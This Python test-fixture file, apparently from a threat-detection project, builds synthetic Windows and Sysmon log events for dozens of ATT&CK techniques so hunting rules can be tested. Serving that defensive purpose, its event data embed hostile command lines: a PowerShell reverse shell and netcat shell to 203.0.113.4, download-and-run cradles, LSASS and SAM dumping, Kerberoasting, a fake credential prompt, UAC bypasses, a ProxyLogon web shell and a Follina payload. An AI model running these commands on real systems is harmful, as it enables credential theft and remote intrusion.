"""A third set of attacks, of the kinds that public collections sort by tactic: records of more channels (firewall,
SMB, NTLM, WinRM, BITS, terminal services, code integrity, certificates) and more ways of what the first two hold.

Source: Microsoft's pages on the events of Windows Security and of the other channels; Sysmon's schema; ATT&CK.
"""

from __future__ import annotations

from firstbell.drill.intrusion.eventlogs import Event
from tests.investigate.hunts.attacks import DEFENDER, SYSMON, audited, event
from tests.investigate.hunts.published import (
    PSH,
    SID,
    SYS32,
    USER,
    block,
    created,
    directory,
    installed,
    logon,
    opened,
    published,
    share,
    started,
    valued,
    wrote,
)

WHO = {
    "SubjectUserSid": SID,
    "SubjectUserName": "jlopez",
    "SubjectDomainName": "DISTRICT",
    "SubjectLogonId": "0x2a9f1",
}
FIREWALL = "Microsoft-Windows-Windows Firewall With Advanced Security"
TEMP = r"C:\Users\jlopez\AppData\Local\Temp"


def connected(image: str, address: str, port: str, name: str = "-") -> Event:
    """Sysmon's record of a connection."""
    return event(
        SYSMON, 3, RuleName="-", UtcTime="2023-11-14 22:20:03.100", ProcessGuid="{747F3D96-B8A7-5E9D-0000-0010A5D75A00}",
        ProcessId="4432", Image=image, User=USER, Protocol="tcp", Initiated="true", SourceIsIpv6="false",
        SourceIp="10.2.3.4", SourceHostname="WS17.district.example", SourcePort="50221", SourcePortName="-",
        DestinationIsIpv6="false", DestinationIp=address, DestinationHostname=name, DestinationPort=port,
        DestinationPortName="-",
    )  # fmt: skip


def asked(image: str, name: str) -> Event:
    """Sysmon's record of a name that was looked up."""
    return event(SYSMON, 22, RuleName="-", UtcTime="x", ProcessGuid="x", ProcessId="4432", QueryName=name,
                 QueryStatus="0", QueryResults="::ffff:203.0.113.4;", Image=image, User=USER)  # fmt: skip


def loaded(image: str, module: str, signed: str = "false", signature: str = "-") -> Event:
    """Sysmon's record of a module that a process took in."""
    return event(
        SYSMON, 7, RuleName="-", UtcTime="x", ProcessGuid="x", ProcessId="700", Image=image, ImageLoaded=module,
        FileVersion="-", Description="-", Product="-", Company="-", OriginalFileName="-", Hashes="SHA1=6CBC",
        Signed=signed, Signature=signature, SignatureStatus="Unavailable" if signed == "false" else "Valid", User=USER,
    )  # fmt: skip


def piped(name: str, image: str, *, number: int = 17) -> Event:
    """Sysmon's record of a named pipe: 17 made, 18 connected to."""
    return event(SYSMON, number, RuleName="-", EventType="CreatePipe" if number == 17 else "ConnectPipe", UtcTime="x",
                 ProcessGuid="x", ProcessId="9", PipeName=name, Image=image, User=USER)  # fmt: skip


def engine(application: str, number: int = 400, version: str = "5.1.17763.1") -> Event:
    """The old PowerShell log's record of an engine's start."""
    return event("PowerShell", number, **{"": f"Available | None | \tNewEngineState=Available\n\tPreviousEngineState=None\n\n\tSequenceNumber=13\n\n\tHostName=ConsoleHost\n\tHostVersion=5.1.17763.1\n\tHostId=27e9d0b6\n\tHostApplication={application}\n\tEngineVersion={version}\n\tRunspaceId=87"})  # fmt: skip


def run(command: str, parent: str = rf"{SYS32}\cmd.exe") -> Event:
    """Sysmon's record of a program of Windows that was started by its name."""
    name = command.split()[0].strip('"')
    return started(rf"{SYS32}\{name}", command, parent)


THIRD = (
    # credential access
    published("rdrleakdiag", "account.dump", run(r"rdrleakdiag.exe /p 612 /o C:\Users\Public /fullmemdmp /wait 1")),
    published("sqldumper", "account.dump", started(r"C:\Program Files\Microsoft SQL Server\150\Shared\SqlDumper.exe", "sqldumper.exe 612 0 0x01100")),
    published("createdump", "account.dump", started(r"C:\Program Files\dotnet\shared\Microsoft.NETCore.App\5.0.1\createdump.exe", r"createdump.exe -u -f C:\Users\Public\d.dmp 612")),
    published("lsass-rundll32", "account.dump", opened(rf"{SYS32}\rundll32.exe", "0x1fffff", r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\System32\comsvcs.dll+25b3c")),
    published("lsass-dmp-any", "account.dump", wrote(r"C:\Users\jlopez\nanodump.x64.exe", rf"{TEMP}\lsass.dmp")),
    published("sam-shadow", "account.dump", run(r"cmd.exe /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\System32\config\SAM C:\Users\Public\s")),
    published("dpapi-backup-key", "account.dump", audited(4662, **WHO, ObjectServer="LSA", ObjectType="SecretObject", ObjectName=r"Policy\Secrets\G$BCKUPKEY_P", OperationType="Query", HandleId="0x1ff", AccessList="%%1537\n\t\t\t\t", AccessMask="0x2", Properties="-", AdditionalInfo="-", AdditionalInfo2="-")),
    published("protected-storage", "account.dump", share("IPC$", "protected_storage", access="%%4416")),
    published("raw-disk", "account.dump", event(SYSMON, 9, RuleName="-", UtcTime="x", ProcessGuid="x", ProcessId="8", Image=PSH, Device=r"\Device\HarddiskVolume2", User=USER)),
    published("ssp-4622", "account.dump", audited(4622, SecurityPackageName=r"C:\Users\jlopez\Downloads\mimilib.dll : KiwiSSP")),
    published("lsass-unsigned", "account.dump", loaded(rf"{SYS32}\lsass.exe", r"C:\Windows\System32\mimilib.dll")),
    published("out-minidump", "account.dump", block("function Out-Minidump { $WER = [PSObject].Assembly.GetType('System.Management.Automation.WindowsErrorReporting'); $m = $WER.GetNestedType('NativeMethods','NonPublic').GetMethod('MiniDumpWriteDump', $Flags) }")),
    published("asr-lsass", "account.dump", event(DEFENDER, 1121, **{"Product Name": "Microsoft Defender Antivirus", "Product Version": "4.18", "ID": "9E6C4E1F-7D60-472F-BA1A-A39EF669E4B2", "Detection Time": "2023-11-14T22:20:00.000Z", "User": USER, "Path": rf"{SYS32}\lsass.exe", "Process Name": r"C:\Users\jlopez\Desktop\x.exe"})),
    published("code-integrity-lsass", "account.dump", event("Microsoft-Windows-CodeIntegrity", 3033, FileNameLength="60", FileNameBuffer=r"\Device\HarddiskVolume2\Users\jlopez\mimilib.dll", ProcessNameLength="50", ProcessNameBuffer=r"\Device\HarddiskVolume2\Windows\System32\lsass.exe", RequestedPolicy="8", ValidatedPolicy="1")),
    published("ppl-off", "account.dump", valued(rf"{SYS32}\reg.exe", r"HKLM\System\CurrentControlSet\Control\Lsa\RunAsPPL", "DWORD (0x00000000)")),
    published("ntlm-downgrade", "account.passwords", valued(rf"{TEMP}\im.exe", r"HKLM\System\CurrentControlSet\Control\Lsa\LMCompatibilityLevel", "DWORD (0x00000002)")),
    published("keymgr", "account.passwords", run("rundll32.exe keymgr.dll,KRShowKeyMgr")),
    published("cmdkey", "account.passwords", run("cmdkey.exe /list")),
    published("gpp", "account.passwords", run(r'findstr.exe /S /I cpassword \\district.example\sysvol\district.example\policies\*.xml')),
    published("find-passwords", "account.passwords", run(r"reg.exe query HKLM /f password /t REG_SZ /s")),
    published("wlan-keys", "account.passwords", run('netsh.exe wlan show profile name="Staff" key=clear')),
    published("keystrokes", "account.passwords", block("function Get-Keystrokes { $Def = '[DllImport(\"user32.dll\")] public static extern short GetAsyncKeyState(int v);' }")),
    published("ask-password", "account.passwords", block("$c=$host.ui.PromptForCredential('Failed Authentication','',[Environment]::UserDomainName+'\\'+[Environment]::UserName,''); $c.GetNetworkCredential().Password")),
    published("kerberoast-ps", "account.passwords", block("Add-Type -AssemblyName System.IdentityModel; setspn -T district.example -Q */* | % { New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $_ }")),
    published("setspn", "account.passwords", run("setspn.exe -T district.example -Q */*")),
    published("preauth-off", "account.raised", audited(4738, Dummy="-", TargetUserName="svc-copier", TargetDomainName="DISTRICT", TargetSid=SID, **WHO, PrivilegeList="-", SamAccountName="-", OldUacValue="0x210", NewUacValue="0x10210", UserAccountControl="\n\t\t%%2096", UserParameters="-", SidHistory="-", LogonHours="-")),
    published("spn-to-user", "account.raised", directory("CN=Principal,OU=Staff,DC=district,DC=example", "user", "servicePrincipalName", "http/x")),
    published("certificate-san", "account.raised", audited(4887, RequestId="17", Requester=r"DISTRICT\jlopez", Attributes="CertificateTemplate:UserVPN\nSAN:upn=Administrator@district.example\nccm:WS17.district.example", Disposition="3", SubjectKeyIdentifier="aa", Subject="CN=jlopez")),
    published("pkinit-machine", "account.passwords", audited(4768, TargetUserName="DC01$", TargetDomainName="DISTRICT.EXAMPLE", TargetSid=SID, ServiceName="krbtgt", ServiceSid=SID, TicketOptions="0x40800010", Status="0x0", TicketEncryptionType="0x12", PreAuthType="16", IpAddress="::ffff:10.2.3.4", IpPort="51616", CertIssuerName="district-CA", CertSerialNumber="6D00", CertThumbprint="AA11")),
    published("key-export", "account.passwords", block("Get-ChildItem Cert:\\LocalMachine\\My | Export-PfxCertificate -FilePath C:\\Users\\Public\\a.pfx -Password $p")),
    published("ca-backup", "account.dump", audited(4876, BackupType="1", **WHO)),
    published("shadow-made", "account.ntds", run("vssadmin.exe create shadow /for=C:")),
    published("diskshadow", "account.ntds", run(r"diskshadow.exe /s C:\Users\Public\s.txt")),
    published("wbadmin-ntds", "account.ntds", run(r"wbadmin.exe start backup -backuptarget:\\10.2.3.4\x -include:c:\windows\ntds\ntds.dit -quiet")),
    published("dsrm-network", "account.reset", valued(PSH, r"HKLM\System\CurrentControlSet\Control\Lsa\DsrmAdminLogonBehavior", "DWORD (0x00000002)")),
    published("spray-8004", "entry.guessing", *[event("Microsoft-Windows-NTLM", 8004, SChannelName="FS01", UserName=f"teacher{n}", DomainName="DISTRICT", WorkstationName="KALI", SChannelType="2") for n in range(14)]),
    published("spray-551", "entry.guessing", *[event("Microsoft-Windows-SMBServer", 551, channel="Microsoft-Windows-SMBServer/Security", user_data="EventData", SessionGUID="x", ConnectionGUID="x", Status="0xc000006d", TranslatedStatus="0xc000006d", ClientAddressLength="16", ClientAddress="0200C3450A020304", SessionId="0x1", UserNameLength="0", UserName="", ClientNameLength="12", ClientName=r"\\10.2.3.4") for n in range(15)]),
    published("rdp-140", "entry.guessing", *[event("Microsoft-Windows-RemoteDesktopServices-RdpCoreTS", 140, IPString="203.0.113.9") for n in range(14)]),
    published("lockouts", "entry.guessing", *[audited(4740, TargetUserName=f"teacher{n}", TargetDomainName="KALI", TargetSid=SID, SubjectUserSid="S-1-5-18", SubjectUserName="DC01$", SubjectDomainName="DISTRICT", SubjectLogonId="0x3e7") for n in range(12)]),
    published("sshd-guess", "entry.guessing", *[event("OpenSSH", 4, process="sshd", payload=f"Failed password for invalid user u{n} from 203.0.113.7 port 5041{n % 10} ssh2") for n in range(14)]),
    published("unknown-names", "entry.guessing", *[audited(4776, PackageName="MICROSOFT_AUTHENTICATION_PACKAGE_V1_0", TargetUserName=f"name{n}", Workstation="KALI", Status="0xc0000064") for n in range(14)]),
    # first access, execution
    published("sshd-accepted", "entry.remote_logon", event("OpenSSH", 4, process="sshd", payload="Accepted password for bob from 203.0.113.7 port 50412 ssh2")),
    published("rdp-131", "entry.remote_logon", event("Microsoft-Windows-RemoteDesktopServices-RdpCoreTS", 131, ConnType="TCP", ClientIP="203.0.113.9:50412")),
    published("rdp-4778", "entry.remote_logon", audited(4778, AccountName="jlopez", AccountDomain="DISTRICT", LogonID="0x1e0c", SessionName="RDP-Tcp#4", ClientName="DESKTOP-1", ClientAddress="203.0.113.9")),
    published("proxylogon", "entry.exploit", event("MSExchange CmdletLogs", 1, channel="MSExchange Management", **{"": "Set-OabVirtualDirectory | -ExternalUrl \"http://f/<script language='JScript' runat='server'>function Page_Load(){eval(Request['x'],'unsafe');}</script>\" -Identity \"MAIL\\OAB (Default Web Site)\""})),
    published("audit-cve", "entry.exploit", event("Microsoft-Windows-Audit-CVE", 1, channel="Application", CVEID="[CVE-2020-0601] cert validation", AdditionalDetails="CA: <...> sha1: aa")),
    published("dns-plugin", "entry.exploit", run(r"dnscmd.exe DC01 /config /serverlevelplugindll \\10.2.3.4\x\p.dll")),
    published("dns-770", "entry.exploit", event("Microsoft-Windows-DNS-Server-Service", 770, channel="DNS Server", param1=r"\\10.2.3.4\x\p.dll", param2="DC01")),
    published("spooler-child", "entry.exploit", started(rf"{SYS32}\cmd.exe", "cmd.exe", rf"{SYS32}\spoolsv.exe", user=r"NT AUTHORITY\SYSTEM")),
    published("sql-child", "entry.exploit", created(rf"{SYS32}\cmd.exe", '"C:\\Windows\\system32\\cmd.exe" /c whoami', r"C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\sqlservr.exe")),
    published("java-child", "entry.webshell", started(PSH, "powershell -nop -c iwr http://203.0.113.4/a", r"C:\Program Files\Java\jre1.8.0_291\bin\java.exe")),
    published("aspx-written", "entry.webshell", wrote(rf"{SYS32}\inetsrv\w3wp.exe", r"C:\inetpub\wwwroot\aspnet_client\supp0rt.aspx")),
    published("mail-webshell", "entry.webshell", wrote(r"C:\Program Files\Microsoft\Exchange Server\V15\Bin\UMWorkerProcess.exe", r"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\x.aspx")),
    published("follina", "entry.opened", started(rf"{SYS32}\msdt.exe", r'msdt.exe ms-msdt:/id PCWDiagnostic /skip force /param "IT_RebrowseForFile=? IT_LaunchMethod=ContextMenu IT_BrowseForFile=$(Invoke-Expression($(x)))i/../../../../Windows/System32/mpsigstub.exe"', r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE")),
    published("equation", "entry.opened", started(rf"{SYS32}\mshta.exe", "mshta http://203.0.113.4/a.hta", r"C:\Program Files\Common Files\Microsoft Shared\EQUATION\EQNEDT32.EXE")),
    published("iso-mounted", "entry.opened", event("Microsoft-Windows-VHDMP", 1, channel="Microsoft-Windows-VHDMP-Operational", Status="0x0", VhdFileName=r"C:\Users\jlopez\Downloads\invoice.iso", VhdDiskNumber="1")),
    published("zone-stream", "entry.opened", event(SYSMON, 15, RuleName="-", UtcTime="x", ProcessGuid="x", ProcessId="7", Image=r"C:\Program Files\Google\Chrome\Application\chrome.exe", TargetFilename=r"C:\Users\jlopez\Downloads\Invoice.hta:Zone.Identifier", CreationUtcTime="x", Hash="SHA1=6C", Contents="[ZoneTransfer]  ZoneId=3  HostUrl=http://203.0.113.4/Invoice.hta", User=USER)),
    published("double-ending", "entry.opened", started(r"C:\Users\jlopez\Downloads\Report.pdf.exe", r'"C:\Users\jlopez\Downloads\Report.pdf.exe"', r"C:\Windows\explorer.exe")),
    published("onenote-child", "entry.opened", started(rf"{SYS32}\wscript.exe", rf'"C:\Windows\System32\WScript.exe" "{TEMP}\OneNote\16.0\Exported\x\NT\0\open.wsf"', r"C:\Program Files\Microsoft Office\root\Office16\ONENOTE.EXE")),
    published("chm", "run.download", started(r"C:\Windows\hh.exe", "hh.exe http://203.0.113.4/help.chm")),
    published("msiexec-net", "run.download", run("msiexec.exe /q /i http://203.0.113.4/p.msi")),
    published("pubprn", "run.download", run(r"cscript.exe C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs 127.0.0.1 script:http://203.0.113.4/a.sct")),
    published("desktopimg", "run.download", run(r"desktopimgdownldr.exe /lockscreenurl:http://203.0.113.4/a.exe /eventName:x")),
    published("certreq", "run.download", run(r"certreq.exe -Post -config http://203.0.113.4/ C:\Windows\win.ini C:\Users\Public\o.txt")),
    published("mpcmdrun", "run.download", started(r"C:\Program Files\Windows Defender\MpCmdRun.exe", r"MpCmdRun.exe -DownloadFile -url http://203.0.113.4/b.exe -path C:\Users\Public\b.exe")),
    published("vbs-mshta", "run.download", run('mshta.exe vbscript:Close(Execute("GetObject(""script:http://203.0.113.4/a.sct"")"))')),
    published("bits-16403", "run.download", event("Microsoft-Windows-Bits-Client", 16403, User=USER, jobTitle="upd", jobId="{x}", jobOwner=USER, fileCount="1", RemoteName="http://203.0.113.4/n.exe", LocalName=r"C:\Users\Public\n.exe", processId="77")),
    published("ps-core", "run.download", event("PowerShellCore", 4104, MessageNumber="1", MessageTotal="1", ScriptBlockText="IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.4/a.ps1')", ScriptBlockId="x", Path="")),
    published("ps-dns", "run.download", asked(PSH, "raw.githubusercontent.com")),
    published("regsvr32-net", "run.download", connected(rf"{SYS32}\regsvr32.exe", "203.0.113.4", "80")),
    published("ps-800", "run.hidden_script", event("PowerShell", 800, **{"": "Invoke-Expression $x | \tDetailSequence=1\n\tDetailTotal=1\n\n\tSequenceNumber=19\n\n\tUserId=DISTRICT\\jlopez\n\tHostName=ConsoleHost\n\tHostApplication=powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\n\tEngineVersion=5.1 | CommandInvocation(Invoke-Expression): \"Invoke-Expression\""})),
    published("engine-encoded", "run.hidden_script", engine("powershell.exe -NoP -sta -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA")),
    published("odd-host", "run.hidden_script", piped(r"\PSHost.132000000000000000.4432.DefaultAppDomain.calc", rf"{SYS32}\calc.exe")),
    published("unmanaged", "run.hidden_script", loaded(rf"{SYS32}\notepad.exe", r"C:\Windows\assembly\NativeImages_v4.0.30319_64\System.Manaa57fc8cc#\4b93b6bd71723bed2fa9dd778436dd5e\System.Management.Automation.ni.dll", "true", "Microsoft Windows")),
    published("script-clr", "run.hidden_script", loaded(rf"{SYS32}\cscript.exe", r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\clr.dll", "true", "Microsoft Corporation")),
    published("stream-run", "run.hidden_script", run(r"wscript.exe C:\Users\Public\notes.txt:a.vbs")),
    published("url-dll", "run.hidden_script", run(r"rundll32.exe url.dll,OpenURL file:///C:/Users/jlopez/Downloads/a.hta")),
    published("zipfldr", "run.hidden_script", run(r"rundll32.exe zipfldr.dll,RouteTheCall C:\Users\Public\a.exe")),
    published("advpack", "run.hidden_script", run(r"rundll32.exe advpack.dll,LaunchINFSection C:\Users\Public\t.inf,DefaultInstall_SingleUser,1,")),
    published("ftp-script", "run.hidden_script", run(r"ftp.exe -s:C:\Users\Public\f.txt")),
    published("wuauclt-dll", "run.hidden_script", run(r"wuauclt.exe /UpdateDeploymentProvider C:\Users\Public\a.dll /RunHandlerComServer")),
    published("masquerade", "tool.named", started(r"C:\Users\Public\svchost.exe", "svchost.exe", PSH)),
    published("mocked-folder", "run.hidden_script", started(r"C:\Windows \System32\winSAT.exe", r'"C:\Windows \System32\winSAT.exe" formal', PSH)),
    published("uac-mssettings", "run.hidden_script", valued(PSH, r"HKU\S-1-5-21-1-2-3-1000_Classes\ms-settings\shell\open\command\(Default)", r"C:\Windows\System32\cmd.exe /c start a")),
    published("uac-sdclt", "run.hidden_script", valued(PSH, r"HKU\S-1-5-21-1-2-3-1000_Classes\exefile\shell\runas\command\IsolatedCommand", "cmd.exe")),
    published("uac-windir", "run.hidden_script", valued(PSH, r"HKU\S-1-5-21-1-2-3-1000\Environment\windir", "cmd /c start a & REM")),
    published("uac-computerdefaults", "run.hidden_script", started(rf"{SYS32}\cmd.exe", "cmd.exe", rf"{SYS32}\ComputerDefaults.exe", IntegrityLevel="High")),
    published("attrib", "run.hidden_script", run(r"attrib.exe +s +h +r C:\Users\Public\a.exe")),
    # tools and channels to them
    published("pipe-postex", "tool.named", piped(r"\postex_8a3f", rf"{SYS32}\rundll32.exe")),
    published("pipe-msagent", "tool.named", piped(r"\msagent_1a2b", rf"{SYS32}\svchost.exe", number=18)),
    published("vulnerable-driver", "hide.defences", event(SYSMON, 6, RuleName="-", UtcTime="x", ImageLoaded=rf"{TEMP}\RTCore64.sys", Hashes="SHA1=F6", Signed="true", Signature="MICRO-STAR INTERNATIONAL CO., LTD.", SignatureStatus="Valid")),
    published("reverse-shell", "tool.named", block("$c = New-Object System.Net.Sockets.TCPClient('203.0.113.4',4444);$s = $c.GetStream();while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$d = (iex $data 2>&1 | Out-String )}")),
    published("temp-4444", "tool.named", connected(rf"{TEMP}\a.exe", "203.0.113.4", "4444")),
    published("netcat", "tool.named", started(r"C:\Users\Public\nc.exe", "nc.exe 203.0.113.4 4444 -e cmd.exe")),
    published("chisel", "tool.named", started(r"C:\Users\Public\c.exe", "c.exe client 203.0.113.4:8080 R:socks")),
    published("plink", "stay.rdp", started(r"C:\Users\Public\plink.exe", "plink.exe -R 4444:127.0.0.1:3389 -P 443 u@203.0.113.4 -pw x")),
    published("ssh-reverse", "stay.rdp", started(rf"{SYS32}\OpenSSH\ssh.exe", "ssh.exe -N -R 9999:127.0.0.1:3389 u@203.0.113.4")),
    published("ngrok", "entry.remote_tool", started(r"C:\Users\Public\ngrok.exe", "ngrok.exe tcp 3389")),
    published("ngrok-dns", "entry.remote_tool", asked(r"C:\Users\Public\n.exe", "tunnel.us.ngrok.com")),
    published("cloudflared", "entry.remote_tool", installed("Cloudflared", r'"C:\Program Files (x86)\cloudflared\cloudflared.exe" tunnel run --token eyJhIjoi')),
    published("quickassist", "entry.remote_tool", wrote(r"C:\Users\jlopez\Downloads\rustdesk-1.2.exe", r"C:\Program Files\RustDesk\rustdesk.exe")),
    published("kali-name", "tool.named", logon("3", "10.2.3.4", "jlopez", SubjectUserSid="S-1-0-0", SubjectUserName="-", LogonProcessName="NtLmSsp ", AuthenticationPackageName="NTLM", LmPackageName="NTLM V2", WorkstationName="kali", ProcessName="-")),
)  # fmt: skip
